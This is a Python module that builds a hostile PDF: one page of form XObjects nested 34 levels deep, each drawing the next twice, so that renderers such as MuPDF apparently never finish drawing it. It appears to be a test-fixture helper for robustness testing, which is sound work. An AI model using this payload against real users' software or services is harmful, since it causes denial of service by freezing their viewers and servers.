"""Files built to hurt a reader: a PDF whose one page MuPDF draws for ever."""

from pathlib import Path


def _xobject(number: int, depth: int, last: int) -> bytes:
    """A form XObject that draws the next one twice (the last one draws a line)."""
    if number == last:
        stream, resources = b"0 0 m 10 10 l S", b""
    else:
        stream = b" ".join([b"q 0.9 0 0 0.9 1 1 cm /X Do Q"] * 2)
        resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (number + 1)
    return (
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] %s /Length %d >>\n"
        % (
            resources,
            len(stream),
        )
        + b"stream\n%s\nendstream" % stream
    )


def write_endless_pdf(path: Path, depth: int = 34) -> Path:
    """One page of form XObjects nested `depth` deep, each drawing the next twice: 2^depth
    draws (~8 KB; measured, 20 deep already takes 30 s, and each level doubles it)."""
    first = 5
    content = b"/X Do"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /X 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        *(_xobject(n, depth, first + depth - 1) for n in range(first, first + depth)),
    ]
    data = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    path.write_bytes(bytes(data))
    return path
